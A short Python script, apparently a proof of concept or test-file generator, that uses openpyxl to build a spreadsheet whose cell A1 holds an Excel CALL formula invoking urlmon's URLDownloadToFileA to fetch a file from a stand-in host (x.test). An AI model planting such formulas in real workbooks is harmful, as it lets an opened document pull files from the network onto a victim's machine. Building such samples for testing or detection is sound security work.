import openpyxl

book = openpyxl.Workbook()
sheet = book.active
sheet["A1"] = '=CALL("urlmon","URLDownloadToFileA","JJCCJJ",0,"http://x.test","x",0,0)'
book.save("x.xlsx")
